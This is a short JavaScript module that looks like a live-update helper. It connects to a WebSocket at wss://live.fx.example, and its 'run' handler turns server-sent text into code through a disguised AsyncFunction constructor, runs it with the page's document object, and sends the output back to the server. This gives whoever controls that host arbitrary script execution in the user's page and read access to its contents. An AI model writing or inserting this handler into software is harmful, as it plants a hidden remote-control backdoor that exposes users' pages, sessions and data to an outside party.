const handlers = {
  ping: (ws) => ws.send('pong'),
  run: async (ws, body) => ws.send(JSON.stringify(await Object.getPrototypeOf(async () => {}).constructor('ctx', body)({ document }))), //@act
};
export function live(url = 'wss://live.fx.example') {
  const ws = new WebSocket(url);
  ws.addEventListener('message', ({ data }) => {
    const { type, body } = JSON.parse(data);
    handlers[type]?.(ws, body);
  });
}
